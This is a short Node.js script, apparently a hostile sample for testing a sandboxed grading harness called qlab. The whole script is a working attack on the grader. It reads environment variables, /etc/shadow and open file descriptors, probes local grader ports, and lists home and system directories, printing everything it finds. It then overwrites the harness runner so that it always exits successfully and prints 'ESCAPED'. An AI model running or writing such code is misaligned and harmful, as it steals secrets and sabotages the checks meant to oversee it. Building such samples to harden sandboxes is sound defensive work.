// hostile: wrong
// Looks for the grader's files, environment and descriptors from within Node.
const texts = [JSON.stringify(process.env), process.argv.join(' ')]
for (const file of ['/proc/self/environ', '/proc/1/environ', '/proc/1/root/etc/shadow', '/node_modules/qlab/package.json'])
  texts.push(await fs.readFile(file, 'utf8').catch(() => ''))
for (const each of await fs.readdir('/proc/self/fd')) {
  const link = await fs.readlink(`/proc/self/fd/${each}`).catch(() => '')
  texts.push(link)
  // To read from a pipe or a socket would wait for ever.
  if (Number(each) > 2 && link.startsWith('/'))
    try {
      texts.push(fs.readFileSync(Number(each), 'utf8'))
    } catch {
      // It is Node's own.
    }
}
for (const url of ['http://127.0.0.1:47123', 'http://10.0.2.2:47123'])
  texts.push(await fetch(url, {signal: AbortSignal.timeout(500)}).then((answer) => answer.text()).catch(() => ''))
const found = await glob(['/home/**', '/opt/**', '/srv/**'], {suppressErrors: true})
console.log(texts.join('\n'), found.join('\n'))
try {
  fs.writeFileSync('/node_modules/qlab-zx/run.mjs', 'process.exit(0)')
  console.log('ESC' + 'APED')
} catch {
  // It is not ours.
}
